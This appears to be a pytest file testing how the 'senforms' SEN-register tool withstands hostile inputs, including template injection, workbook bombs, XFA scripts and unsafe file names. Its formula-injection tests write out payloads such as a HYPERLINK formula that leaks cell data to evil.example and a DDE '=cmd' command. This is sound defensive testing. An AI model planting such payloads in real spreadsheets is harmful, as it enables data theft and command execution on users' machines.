"""Reliability: the bad inputs of shared/reliability.md §7.1 that earlier test files do not cover.

Every hostile file is made by tests/corpus/make.py. docs/reliability.md lists all forty items,
the behaviour senforms promises for each and the test that proves it (here or elsewhere).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shutil
import subprocess
import sys
import time
import unicodedata
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from docx import Document
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn
from lxml import etree
from pypdf import PdfReader

from senforms.bundle import BundleDocument, BundleSection, BundleSpec, build_bundle, intake
from senforms.cli import cli
from senforms.documents.batch import RenderOptions, render
from senforms.errors import EvidenceError, InputError, UnreadableFileError
from senforms.inputs import load_register
from senforms.outputs.naming import MAX_NAME_BYTES

from .conftest import AS_OF, ROOT, SAMPLES
from .corpus import make

# Every test here feeds senforms a hostile or awkward file: none may take more than 30 seconds.
pytestmark = pytest.mark.timeout(30)

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


# --- helpers ---------------------------------------------------------------------------------

def problems_of(path: Path) -> list[str]:
    with pytest.raises(InputError) as caught:
        load_register(path, as_of=AS_OF)
    return [str(p) for p in caught.value.problems]


def refusal(path: Path, **kwargs) -> UnreadableFileError:
    with pytest.raises(UnreadableFileError) as caught:
        load_register(path, as_of=AS_OF, **kwargs)
    return caught.value


def cli_run(*args: str):
    return CliRunner().invoke(cli, list(args))


# The fields a hostile-text template prints, separated by | so each can be checked exactly.
LINE = "{{ pupil.legal_surname }}|{{ pupil.legal_forename }}|{{ pupil.preferred_name }}|{{ pupil.strengths }}"


def template_everywhere(folder: Path, kind: str = "support-plan") -> Path:
    """A school template printing LINE in the header, footer, a body paragraph, a table cell and a
    footnote (docxtpl renders each part separately; headers, footers and footnotes strictly).
    Returns the folder, for --templates."""
    folder.mkdir(parents=True, exist_ok=True)
    document = Document()
    document.sections[0].header.paragraphs[0].text = "H:" + LINE
    document.sections[0].footer.paragraphs[0].text = "F:" + LINE
    paragraph = document.add_paragraph("B:" + LINE)
    paragraph.add_run()._r.append(parse_xml(f'<w:footnoteReference {nsdecls("w")} w:id="1"/>'))
    document.add_table(rows=1, cols=1).cell(0, 0).text = "T:" + LINE
    buffer = io.BytesIO()
    document.save(buffer)
    footnotes = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:footnotes xmlns:w="{W}">'
        '<w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p></w:footnote>'
        '<w:footnote w:type="continuationSeparator" w:id="0"><w:p><w:r><w:continuationSeparator/></w:r></w:p></w:footnote>'
        f'<w:footnote w:id="1"><w:p><w:r><w:t xml:space="preserve">N:{LINE}</w:t></w:r></w:p></w:footnote></w:footnotes>'
    )
    path = folder / f"{kind}.docx"
    path.write_bytes(buffer.getvalue())

    def add_footnotes(name: str, data: bytes) -> bytes | None:
        if name == "[Content_Types].xml":
            return data.replace(b"</Types>", b'<Override PartName="/word/footnotes.xml" ContentType='
                                b'"application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"/></Types>')
        if name == "word/_rels/document.xml.rels":
            return data.replace(b"</Relationships>", b'<Relationship Id="rIdFootnotes" Type="http://schemas.openxmlformats.org'
                                b'/officeDocument/2006/relationships/footnotes" Target="footnotes.xml"/></Relationships>')
        return None

    make.rewrite_parts(path, add_footnotes, [("word/footnotes.xml", footnotes.encode())])
    return folder


def render_one(register: Path, out: Path, templates: Path | None = None, kind: str = "support-plan", index: int = 0) -> Path:
    """Render `kind` for pupils[index] with the library; return the one DOCX written."""
    loaded = load_register(register, as_of=AS_OF)
    result = render(loaded.register, kind, RenderOptions(out, templates_dir=templates, on=AS_OF), [loaded.register.pupils[index]])
    (document,) = result.report.documents
    assert document.status == "written", document.error
    return document.path


def part_texts(docx: Path) -> dict[str, str]:
    """The text of each part as Word shows it: w:t runs joined, w:br and w:tab as \\n and \\t."""
    texts = {}
    with zipfile.ZipFile(docx) as archive:
        for name in archive.namelist():
            if re.fullmatch(r"word/(document|header\d+|footer\d+|footnotes)\.xml", name):
                root = etree.fromstring(archive.read(name))
                pieces = []
                for node in root.iter(f"{{{W}}}t", f"{{{W}}}br", f"{{{W}}}tab", f"{{{W}}}p"):
                    tag = etree.QName(node).localname
                    pieces.append(node.text or "" if tag == "t" else {"br": "\n", "tab": "\t", "p": "¶"}[tag])
                texts[name] = "".join(pieces)
    return texts


def body_paragraph(docx: Path, prefix: str):
    return next(p for p in Document(str(docx)).paragraphs if p.text.startswith(prefix))


# --- 1, 2, 7: markup, XML and template syntax in data ------------------------------------------

def test_markup_and_template_syntax_in_data_print_as_typed_in_every_part(tmp_path):
    register = make.awkward_text_register(tmp_path / "awkward.json")
    docx = render_one(register, tmp_path / "out", template_everywhere(tmp_path / "templates"))
    text = make.AWKWARD_TEXT
    expected = f"{text['legal_surname']}|{text['legal_forename']}|{text['preferred_name']}|{text['strengths']}"
    parts = part_texts(docx)
    assert f"B:{expected}" in parts["word/document.xml"] and f"T:{expected}" in parts["word/document.xml"]
    assert any(f"H:{expected}" in t for n, t in parts.items() if "header" in n)
    assert any(f"F:{expected}" in t for n, t in parts.items() if "footer" in n)
    assert f"N:{expected}" in parts["word/footnotes.xml"]
    assert "49" not in parts["word/document.xml"]  # {{ 7*7 }} was printed, never evaluated
    # The injected </w:t></w:r><w:r> is text inside the one run: no run was added.
    paragraph = body_paragraph(docx, "B:")
    assert len(paragraph.runs) == 2  # the text and the footnote reference, as in the template
    assert paragraph.runs[0].text == f"B:{expected}"
    # The title is the document's, never the record's, so nothing can be escaped twice in it.
    core = zipfile.ZipFile(docx).read("docProps/core.xml").decode()
    assert Document(str(docx)).core_properties.title == "SEN support plan" and "&amp;amp;" not in core


# --- 3, 4: control characters ----------------------------------------------------------------

def test_control_characters_from_excel_are_removed_with_a_warning_and_word_can_open_the_result(tmp_path):
    path = make.control_characters_xlsx(tmp_path / "control.xlsx")
    loaded = load_register(path, as_of=AS_OF)
    warnings = [str(w) for w in loaded.warnings]
    assert "control.xlsx › Pupils › row 2 › Strengths: contains control characters, which senforms removes (retype the text to be sure)" in warnings
    pupil = loaded.register.pupils[0]
    # Soft return and form feed become line breaks (never a page break); NUL, ESC and BEL go.
    assert pupil.strengths == "Kind\ncurious\nand fun to be with"
    assert pupil.address == ["11 Meadow Road", "Eastmere"]  # _x000D_ + line feed is one line break
    docx = render_one(path, tmp_path / "out", template_everywhere(tmp_path / "templates"))
    document = Document(str(docx))  # python-docx reopens it
    assert body_paragraph(docx, "B:").text.endswith("|Kind\ncurious\nand fun to be with")
    xml = zipfile.ZipFile(docx).read("word/document.xml").decode()
    assert 'w:type="page"' not in xml and "_x00" not in xml
    template = Document(str(tmp_path / "templates" / "support-plan.docx"))
    assert len(document.paragraphs) == len(template.paragraphs)  # no paragraph was added


def test_control_characters_in_json_are_warned_about_at_their_path(tmp_path):
    data = make.sample_data()
    data["pupils"][3]["contacts"][0]["name"] = "Ann\x00a Nowak\x1b"
    path = make.write_json(tmp_path / "register.json", data)
    loaded = load_register(path, as_of=AS_OF)
    assert loaded.register.pupils[3].contacts[0].name == "Anna Nowak"
    assert "register.json › pupils[3].contacts[0].name: contains control characters, which senforms removes (retype the text to be sure)" in [
        str(w) for w in loaded.warnings
    ]


# --- 5: Windows line endings -------------------------------------------------------------------

def test_windows_line_breaks_become_single_line_breaks(tmp_path):
    loaded = load_register(make.csv_windows_line_breaks(tmp_path / "pupils.csv"), as_of=AS_OF)
    assert loaded.register.pupils[0].strengths == "Line one\nLine two\nLine three"
    data = make.sample_data()
    data["pupils"][0]["strengths"] = "Line one\r\nLine two\r\n\r\nLine four\rLine five"
    docx = render_one(make.write_json(tmp_path / "crlf.json", data), tmp_path / "out", template_everywhere(tmp_path / "t"))
    paragraph = body_paragraph(docx, "B:")
    assert paragraph.text.endswith("|Line one\nLine two\n\nLine four\nLine five")  # one break per line end
    assert len(paragraph._p.findall(f".//{qn('w:br')}")) == 4
    assert "\r" not in zipfile.ZipFile(docx).read("word/document.xml").decode()


# --- 6, 8, 14: text the model refuses, each at its place -------------------------------------

def test_lone_surrogate_in_json_is_an_error_naming_the_field(tmp_path):
    path = make.json_lone_surrogate(tmp_path / "broken.json")
    assert problems_of(path) == ["broken.json › pupils[0].strengths: contains invalid text (a broken character) (retype the text)"]


@pytest.mark.parametrize(
    "strengths,message",
    [
        ("{_{ x }_}", "contains the reserved sequence '{_' or '_}' (remove the underscore next to the brace)"),
        ("x" * 60_000, "is 60,000 characters long (keep it under 10,000 characters)"),
    ],
    ids=["docxtpl-marker", "60000-characters"],
)
def test_text_the_model_refuses_is_named_at_its_cell(tmp_path, strengths, message):
    path = make.write_csv(tmp_path / "pupils.csv", [make.CSV_HEADER, [*make.CSV_PUPIL[:-1], strengths]])
    assert problems_of(path) == [f"pupils.csv › row 2 › Strengths: {message}"]


# --- 12: curly quotes inside a tag --------------------------------------------------------------

def test_curly_quotes_inside_a_tag_work_and_an_apostrophe_that_ends_quoted_text_is_refused(tmp_path):
    """Word's smart quotes in a tag are straightened as docxtpl renders it, so they are no finding;
    a curly apostrophe inside single-quoted text ends the text early and must stay an error (issue 17)."""
    folder = tmp_path / "templates"
    folder.mkdir()
    document = Document()
    document.add_paragraph("Dear parent,")
    document.add_heading("Your child's support at school", level=1)  # a letter's subject line, or the check warns
    document.add_paragraph("{% if pupil.known_as == ‘Amara’ %}Hello Amara{% endif %}")
    document.save(folder / "parent-notification.docx")
    result = cli_run("templates", "check", str(folder / "parent-notification.docx"))
    assert result.exit_code == 0 and "no problems found" in result.output, result.output
    out = tmp_path / "out"
    rendered = cli_run("render", "parent-notification", str(SAMPLES / "register.xlsx"), "-o", str(out), "--templates", str(folder), "--pupil", "Z881999919001")
    assert rendered.exit_code == 0, rendered.output
    assert all("Hello Amara" in "\n".join(p.text for p in Document(str(path)).paragraphs) for path in out.glob("*.docx"))

    document = Document()
    document.add_paragraph("Dear parent,")
    document.add_paragraph("{{ pupil.known_as|default('your child’s') }}")
    document.save(folder / "parent-notification.docx")
    finding = ("paragraph 2 ('{{ pupil.known_as|default('your child’s') }}'): the tag {{ pupil.known_as|default('your child’s') }} has an "
               "apostrophe inside text in single quotes, which ends the text early: put that text in double quotes instead, e.g. \"Alex’s plan\"")
    result = cli_run("templates", "check", str(folder / "parent-notification.docx"))
    assert result.exit_code == 1 and f"✗ {finding}" in result.output, result.output
    out = tmp_path / "out2"
    rendered = cli_run("render", "parent-notification", str(SAMPLES / "register.xlsx"), "-o", str(out), "--templates", str(folder))
    assert rendered.exit_code == 1 and f"Error: template parent-notification.docx cannot be used: {finding}" in rendered.output
    assert not out.exists() or not list(out.iterdir())


# --- 13: names in every script -------------------------------------------------------------------

def _nfc(text: str) -> str:
    return unicodedata.normalize("NFC", text)


def test_names_in_every_script_come_out_exactly_in_word(tmp_path):
    register = make.many_scripts_register(tmp_path / "scripts.json")
    loaded = load_register(register, as_of=AS_OF)
    out = tmp_path / "out"
    result = render(loaded.register, "support-plan", RenderOptions(out, on=AS_OF), loaded.register.pupils[: len(make.NAMES)])
    assert [d.status for d in result.report.documents] == ["written"] * len(make.NAMES)
    for document, name in zip(result.report.documents, make.NAMES):
        text = "\n".join(part_texts(document.path).values())
        assert _nfc(name) in text, name
        if name != _nfc(name):
            assert name not in text  # decomposed é arrives composed (NFC)
        Document(str(document.path))


def _fonts_for(*languages: str) -> bool:
    if shutil.which("fc-list") is None:
        return False
    return all(subprocess.run(["fc-list", f":lang={lang}"], capture_output=True, text=True, check=False).stdout.strip() for lang in languages)


@pytest.mark.libreoffice
@pytest.mark.timeout(120)
def test_names_in_every_script_survive_into_the_pdf(tmp_path):
    from senforms.errors import ConversionError
    from senforms.pdf import find_soffice

    try:
        find_soffice()
    except ConversionError:
        pytest.skip("LibreOffice is not installed")
    if not _fonts_for("ar", "zh", "pl"):
        pytest.skip("no Arabic, Chinese or Polish font installed: LibreOffice would drop those names (senforms has no glyph check yet)")
    register = make.many_scripts_register(tmp_path / "scripts.json")
    loaded = load_register(register, as_of=AS_OF)
    options = RenderOptions(tmp_path / "out", on=AS_OF, pdf_only=True)
    result = render(loaded.register, "support-plan", options, loaded.register.pupils[: len(make.NAMES)])
    assert [r.status for r in result.pdfs] == ["converted"] * len(make.NAMES), [r.error for r in result.pdfs]
    import pikepdf

    for conversion, name in zip(result.pdfs, make.NAMES):
        reader = PdfReader(str(conversion.pdf))
        text = " ".join(page.extract_text() or "" for page in reader.pages)
        # NFKC undoes Arabic presentation forms; spaces are dropped because PDF text has none to keep.
        folded = "".join(unicodedata.normalize("NFKC", text).split())
        assert "".join(unicodedata.normalize("NFKC", name).split()) in folded, (conversion.pdf.name, name)
        with pikepdf.open(conversion.pdf) as pdf:
            assert len(pdf.pages) == len(reader.pages) >= 1


# --- 15, 16: dates ------------------------------------------------------------------------------

def test_date_cell_serial_number_and_text_all_read_as_13_april_2015(tmp_path):
    path = make.three_kinds_of_date_xlsx(tmp_path / "dates.xlsx")
    loaded = load_register(path, as_of=AS_OF)
    assert [p.admission_date for p in loaded.register.pupils[:3]] == [dt.date(2015, 4, 13)] * 3
    serial = [str(w) for w in loaded.warnings if "plain number" in str(w)]
    assert serial == ["dates.xlsx › Pupils › row 3 › Admission date: date stored as a plain number; read as 13 April 2015 (format the column as Date)"]


def test_a_csv_column_with_one_month_first_date_is_refused_whole(tmp_path):
    path = make.csv_us_dates(tmp_path / "pupils.csv")
    assert problems_of(path) == [
        "pupils.csv › row 1 › DOB: this column looks US-ordered (month first, e.g. 04/13/2015), so none of its dates can be trusted (export the dates as dd/mm/yyyy)",
        "pupils.csv › row 3 › DOB: '04/13/2015' looks like a US-style date (month first) (UK order is day/month/year: dd/mm/yyyy)",
    ]


# --- 20–23: what a workbook hides -----------------------------------------------------------------

def test_hidden_sheet_and_hidden_rows_are_reported(tmp_path):
    path = make.hidden_sheet_and_rows_xlsx(tmp_path / "hidden.xlsx")
    loaded = load_register(path, as_of=AS_OF)
    warnings = [str(w) for w in loaded.warnings]
    assert "hidden.xlsx › Leavers: this sheet is hidden and was not read (unhide it if it holds pupils)" in warnings
    assert "hidden.xlsx › Pupils: row 5 is hidden but was read (unhide it to check, or delete it if it should not be included)" in warnings
    assert make.SPARE_UPN not in {p.upn for p in loaded.register.pupils}
    assert len(loaded.register.pupils) == 13
    result = cli_run("validate", str(path))
    assert result.exit_code == 0 and "! hidden.xlsx › Leavers: this sheet is hidden" in result.output


def test_formulas_with_no_saved_result_are_errors_at_each_cell(tmp_path):
    path = make.uncalculated_formulas_xlsx(tmp_path / "formulas.xlsx")
    fix = "(open the file in Excel or LibreOffice and save it, so the results are stored, or type the value)"
    assert problems_of(path) == [
        f"formulas.xlsx › Pupils › row 2 › Attendance %: cell T2 holds a formula with no saved result {fix}",
        f"formulas.xlsx › Pupils › row 2 › Class: cell H2 holds a formula with no saved result {fix}",
    ]


def test_formulas_with_saved_results_are_read_as_their_results(tmp_path):
    pupil = load_register(make.calculated_formulas_xlsx(tmp_path / "saved.xlsx"), as_of=AS_OF).register.pupils[0]
    assert pupil.attendance_percent == 95 and pupil.class_name == "WILLOW"


def test_spreadsheet_error_cells_are_named(tmp_path):
    path = make.error_cells_xlsx(tmp_path / "errors.xlsx")
    assert problems_of(path) == [
        "errors.xlsx › Pupils › row 2 › Attendance %: the cell shows the spreadsheet error #N/A (fix the formula or type the value)",
        "errors.xlsx › Pupils › row 3 › Class: the cell shows the spreadsheet error #REF! (fix the formula or type the value)",
    ]


def test_formatting_to_row_5000_makes_no_phantom_rows(tmp_path, sample_register):
    loaded = load_register(make.formatted_to_row_5000_xlsx(tmp_path / "formatted.xlsx"), as_of=AS_OF)
    assert loaded.register == sample_register
    assert not [w for w in loaded.warnings if "row 5000" in str(w) or "rows" in str(w)]


def test_a_pupil_after_a_long_gap_of_empty_rows_is_still_read(tmp_path, sample_register):
    loaded = load_register(make.pupil_after_a_gap_xlsx(tmp_path / "gap.xlsx", row=3000), as_of=AS_OF)
    assert {p.upn for p in loaded.register.pupils} == {p.upn for p in sample_register.pupils}
    moved = sample_register.pupils[-1]
    assert loaded.register.pupil(moved.upn) == moved


# --- 24, 26: CSV headers and encodings ------------------------------------------------------------

def test_duplicate_csv_headers_name_both_columns(tmp_path):
    path = make.csv_duplicate_headers(tmp_path / "pupils.csv")
    assert problems_of(path) == [
        "pupils.csv › row 1 › Surname: two columns mean 'Legal surname' (columns 2 and 9) (delete or rename one of them)"
    ]


@pytest.mark.parametrize(
    "encoding,reported",
    [("utf-8-sig", "UTF-8"), ("cp1252", "Windows-1252"), ("utf-16", "UTF-16"), ("utf-16-le", "UTF-16")],
    ids=["utf8-bom", "windows-1252", "utf16-bom", "utf16-no-bom"],
)
def test_csv_in_each_encoding_excel_writes_reads_exactly(tmp_path, encoding, reported):
    loaded = load_register(make.csv_in(tmp_path / "pupils.csv", encoding), as_of=AS_OF)
    pupil = loaded.register.pupils[0]
    assert (pupil.legal_surname, pupil.legal_forename, pupil.strengths) == ("O’Brien", "Renée", "Saves £5 a week for the café")
    assert pupil.date_of_birth == dt.date(2015, 4, 3)
    assert loaded.notes == [f"read as pupils.csv: {reported}"]


# --- 27, 28: files that are not what they say --------------------------------------------------------

def test_encrypted_workbook_asks_for_the_password_and_refuses_a_wrong_one(tmp_path, sample_register):
    path = make.encrypted_xlsx(tmp_path / "locked.xlsx", "s3cret")
    without = cli_run("validate", str(path))
    assert without.exit_code == 1
    assert "Error: locked.xlsx is password-protected\nTip: run again with --password, or save an unprotected copy" in without.output
    wrong = cli_run("validate", str(path), "--password", "guess")
    assert wrong.exit_code == 1 and "Error: the password for locked.xlsx is wrong" in wrong.output
    right = cli_run("validate", str(path), "--password", "s3cret")
    assert right.exit_code == 0 and "✓ locked.xlsx is valid." in right.output
    assert load_register(path, password="s3cret", as_of=AS_OF).register == sample_register


@pytest.mark.parametrize(
    "name,maker,message",
    [
        ("old.xls", make.old_xls, "old.xls is an old-style .xls workbook"),
        ("old.xlsx", make.old_xls, "old.xlsx is an old-style .xls workbook"),
        ("binary.xlsb", make.xlsb_file, "binary.xlsb is an Excel binary workbook (.xlsb)"),
        ("binary.xlsx", make.xlsb_file, "binary.xlsx is an Excel binary workbook (.xlsb), not an Excel workbook (.xlsx)"),
        ("export.xlsx", make.csv_named_xlsx, "export.xlsx is a text (CSV) file, not an Excel workbook (.xlsx)"),
        ("register.xlsx", make.damaged_xlsx, "register.xlsx is damaged: part of it cannot be unpacked"),
    ],
    ids=["xls", "xls-named-xlsx", "xlsb", "xlsb-named-xlsx", "csv-named-xlsx", "damaged"],
)
def test_files_that_are_not_workbooks_are_named_for_what_they_are(tmp_path, name, maker, message):
    path = maker(tmp_path / name)
    assert refusal(path).message == message
    result = cli_run("validate", str(path))
    assert result.exit_code == 1 and f"Error: {message}" in result.output


# --- 29, 30: bombs -------------------------------------------------------------------------------------

@pytest.mark.parametrize(
    "maker,message",
    [
        (make.billion_laughs_xlsx, "bomb.xlsx could not be read as a workbook"),
        (make.many_members_xlsx, "bomb.xlsx holds 10,009 parts, far more than an SEN register needs"),
        (make.zero_bomb_xlsx, "bomb.xlsx would expand to 300 MB, far more than an SEN register needs"),
    ],
    ids=["billion-laughs", "10000-members", "zero-bomb"],
)
def test_workbook_bombs_are_refused_quickly(tmp_path, maker, message):
    path = maker(tmp_path / "bomb.xlsx")
    started = time.monotonic()
    assert refusal(path).message.startswith(message)
    assert time.monotonic() - started < 2


ROW_BOMB_CHILD = """
import resource, sys, time
resource.setrlimit(resource.RLIMIT_AS, (1024 ** 3, 1024 ** 3))
from senforms.errors import UnreadableFileError
from senforms.inputs import load_register
started = time.monotonic()
try:
    load_register(sys.argv[1])
except UnreadableFileError as exc:
    print(exc.message)
print(f"{time.monotonic() - started:.2f}")
# The peak resident memory of this process since exec (ru_maxrss would include the parent's).
print(next(line.split()[1] for line in open("/proc/self/status") if line.startswith("VmHWM:")))
"""


@pytest.mark.timeout(60)
@pytest.mark.skipif(sys.platform != "linux", reason="measures peak memory from /proc/self/status (Linux)")
def test_a_million_row_workbook_is_refused_in_under_2_seconds_and_200_mb(tmp_path):
    path = make.row_bomb_xlsx(tmp_path / "rows.xlsx")
    child = subprocess.run([sys.executable, "-c", ROW_BOMB_CHILD, str(path)], capture_output=True, text=True, timeout=50, check=False)
    assert child.returncode == 0, child.stderr
    message, seconds, peak_kb = child.stdout.strip().splitlines()
    assert message == "rows.xlsx has more than 200,000 rows, far more than an SEN register needs"
    assert float(seconds) < 2
    assert int(peak_kb) < 200 * 1024


def test_json_over_50_mb_is_refused_without_reading_it(tmp_path):
    path = make.json_oversized(tmp_path / "huge.json")
    started = time.monotonic()
    error = refusal(path)
    assert error.message == "huge.json is larger than 50 MB" and error.fix == "a register is far smaller: check it is the right file"
    assert time.monotonic() - started < 1


# --- 31: text that a spreadsheet would run as a formula ---------------------------------------------

FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?x="&B1,"Click")', "+44 7700 900123", "-5", "@SUM(1)"]


def test_formula_like_text_is_written_to_workbooks_as_text(tmp_path, sample_register):
    from senforms.inputs.workbook import build_workbook, save_workbook

    register = sample_register.model_copy(deep=True)
    pupil = register.pupils[0]
    pupil.legal_surname, pupil.strengths, pupil.contacts[0].name, pupil.contacts[1].name = FORMULA_LIKE
    pupil.consents[0].contact_id = pupil.contacts[0].id  # the renamed mother still gave the consent the request needs
    path = save_workbook(build_workbook(register), tmp_path / "export.xlsx")
    sheet = openpyxl.load_workbook(path)["Pupils"]
    for header, value in (("Legal surname", FORMULA_LIKE[0]), ("Strengths", FORMULA_LIKE[1])):
        cell = sheet.cell(2, make.column_of(sheet, header))
        assert (cell.value, cell.data_type) == (value, "s")
    contacts = openpyxl.load_workbook(path)["Contacts"]
    names = [contacts.cell(r, make.column_of(contacts, "Name")) for r in (2, 3)]
    assert [(c.value, c.data_type) for c in names] == [(FORMULA_LIKE[2], "s"), (FORMULA_LIKE[3], "s")]
    again = load_register(path, as_of=AS_OF).register.pupils[0]
    assert (again.legal_surname, again.strengths, again.contacts[0].name, again.contacts[1].name) == tuple(FORMULA_LIKE)


def test_formula_like_text_in_a_meetings_plan_workbook_is_text(tmp_path, sample_register):
    from senforms.documents.meetings_plan import PLAN_SHEET, plan_meetings, save_plan

    register = sample_register.model_copy(deep=True)
    pupil = register.pupils[0]
    booked = next(m for m in pupil.meetings if not m.held and m.date >= AS_OF)
    # model_copy skips clean_text, which would strip the leading tab or carriage return.
    pupil.legal_surname, booked.id, booked.location, booked.purpose = "\t=cmd|' /C calc'!A0", "\t=M4", "\r=1+1", "\t=cmd"
    plan = plan_meetings(register, AS_OF)
    workbook = openpyxl.load_workbook(save_plan(register, plan, tmp_path / "plan.xlsx"))
    plan_sheet = workbook[PLAN_SHEET]
    row = next(r for r in plan_sheet.iter_rows(min_row=2) if r[0].value == pupil.upn)
    assert (row[2].value.lstrip("\t"), row[2].data_type) == (f"=M4 {booked.date:%d/%m/%Y} {booked.start_time:%H:%M}", "s")
    surname = workbook["Pupils"].cell(2, make.column_of(workbook["Pupils"], "Legal surname"))
    assert (surname.value.lstrip(), surname.data_type) == ("=cmd|' /C calc'!A0", "s")
    meetings = workbook["Meetings"]
    (line,) = [r for r in range(2, meetings.max_row + 1) if (meetings.cell(r, make.column_of(meetings, "Purpose")).value or "").lstrip() == "=cmd"]
    for header, value in (("Meeting ID", "=M4"), ("Place", "=1+1"), ("Purpose", "=cmd")):
        cell = meetings.cell(line, make.column_of(meetings, header))
        assert (cell.value.lstrip(), cell.data_type) == (value, "s")
    assert [c.coordinate for sheet in workbook for r in sheet.iter_rows() for c in r if c.data_type == "f"] == []


def test_formula_like_text_is_quoted_in_the_bundle_manifest_csv(tmp_path):
    source = make.evidence_pdf(tmp_path / "report.pdf", "REPORT", 1)
    spec = BundleSpec(
        title="Request for an EHC needs assessment",
        subtitle_lines=("Pupil: Test Pupil",),
        initials="TP",
        pack_date=dt.date(2026, 11, 23),
        sections=(BundleSection("reports", FORMULA_LIKE[1], (BundleDocument(FORMULA_LIKE[0], FORMULA_LIKE[3], None, source),)),),
        metadata_title="Bundle",
        metadata_subject="Evidence",
    )
    manifest = tmp_path / "manifest.csv"
    build_bundle(spec, tmp_path / "bundle.pdf", manifest_csv=manifest)
    (row,) = list(csv.DictReader(io.StringIO(manifest.read_text(encoding="utf-8-sig"))))
    assert row["Document"] == "'" + FORMULA_LIKE[0]
    assert row["Author"] == "'" + FORMULA_LIKE[3]
    assert row["Section"].startswith("'")


# --- 33, 36–38: evidence files ------------------------------------------------------------------------

def test_evidence_cut_at_99_percent_is_refused_by_name(tmp_path):
    path = make.truncated_pdf(tmp_path / "report.pdf", 0.99)
    with pytest.raises(EvidenceError, match=r"^report\.pdf: the file is damaged: ask for a new copy"):
        intake(path, tmp_path / "work")
    assert not list((tmp_path / "work").glob("*.pdf"))


def test_an_xfa_form_and_its_script_are_not_carried_into_the_bundle(tmp_path):
    path = make.xfa_form_pdf(tmp_path / "form.pdf")
    assert b"/XFA" in path.read_bytes() and b"XFA-SCRIPT" in path.read_bytes()
    result = intake(path, tmp_path / "work")
    raw = result.pdf.read_bytes()
    for marker in (b"/XFA", b"/AcroForm", b"XFA-SCRIPT", b"xdp"):
        assert marker not in raw, marker
    assert "FORM page 1" in PdfReader(result.pdf).pages[0].extract_text()


def test_a_pdf_whose_xref_chain_loops_is_refused_by_name(tmp_path):
    path = make.circular_prev_pdf(tmp_path / "loop.pdf")
    started = time.monotonic()
    with pytest.raises(EvidenceError, match=r"^loop\.pdf: the file is damaged"):
        intake(path, tmp_path / "work")
    assert time.monotonic() - started < 20


def test_cyclic_bookmarks_do_not_hang_intake_and_are_dropped(tmp_path):
    path = make.cyclic_outline_pdf(tmp_path / "outline.pdf")
    assert b"/Outlines" in path.read_bytes()
    result = intake(path, tmp_path / "work")
    assert result.pages == 2 and b"/Outlines" not in result.pdf.read_bytes()


def test_an_iphone_heic_photo_is_refused_with_what_to_do(tmp_path):
    path = make.heic_photo(tmp_path / "IMG_0001.heic")
    with pytest.raises(EvidenceError) as caught:
        intake(path, tmp_path / "work")
    assert str(caught.value) == "IMG_0001.heic: this is an iPhone photo (HEIC): export it as JPEG and add that instead."


# --- 40: names that are dangerous as file names ---------------------------------------------------------

def test_dangerous_names_never_escape_collide_or_reach_the_default_file_names(tmp_path):
    register = make.file_name_hazards_register(tmp_path / "hazards.json")
    count = len(make.FILE_NAME_HAZARDS)
    upns = [p["upn"] for p in json.loads(register.read_text(encoding="utf-8"))["pupils"][:count]]
    pupils = [arg for upn in upns for arg in ("--pupil", upn)]
    named = tmp_path / "named"
    result = cli_run("render", "support-plan", str(register), "-o", str(named), "--name", "{surname}", *pupils, "--date", "23/11/2026")
    assert result.exit_code == 0, result.output
    files = sorted(p.name for p in named.glob("*.docx"))
    assert len(files) == count
    assert len({unicodedata.normalize("NFC", f).casefold() for f in files}) == count  # no two collide anywhere
    for name in files:
        assert re.fullmatch(r"[A-Za-z0-9._-]+", name) and len(name.encode()) <= MAX_NAME_BYTES + len(".docx") + 3
        assert name.split(".")[0].upper() not in {"CON", "PRN", "AUX", "NUL"}
        assert not name.startswith(".")
    assert {p.resolve().parent for p in named.rglob("*") if p.is_file()} == {named.resolve()}
    assert not (tmp_path / "etc").exists()
    assert "AUX_.txt.docx" in files and "CON_.docx" in files and "etc-x.docx" in files
    default = tmp_path / "default"
    assert cli_run("render", "support-plan", str(register), "-o", str(default), *pupils, "--date", "23/11/2026").exit_code == 0
    for path in default.glob("*.docx"):
        assert re.fullmatch(r"[A-Z]\d{11}[0-9A-Z]-support-plan-cycle-\d+\.docx", path.name)


# --- the table in docs/reliability.md ---------------------------------------------------------------

def test_docs_reliability_names_only_tests_that_exist():
    import ast

    text = (ROOT / "docs" / "reliability.md").read_text(encoding="utf-8")
    named = re.findall(r"`((?:[a-z]+/)?test_[a-z_]+\.py)::(test_\w+)(?:\[[^\]`]+\])?`", text)
    assert len(named) > 60
    defined: dict[str, set[str]] = {}  # each test file parsed once: the table names hundreds of tests
    for file, function in named:
        if file not in defined:
            tree = ast.parse((ROOT / "tests" / file).read_text(encoding="utf-8"))
            defined[file] = {node.name for node in tree.body if isinstance(node, ast.FunctionDef)}
        assert function in defined[file], f"{file}::{function}"
    rows = [line for line in text.splitlines() if re.match(r"\| (\d+|F\d+) \|", line)]
    assert [row.split("|")[1].strip() for row in rows] == [str(n) for n in range(1, 41)] + [f"F{n}" for n in range(1, 11)]
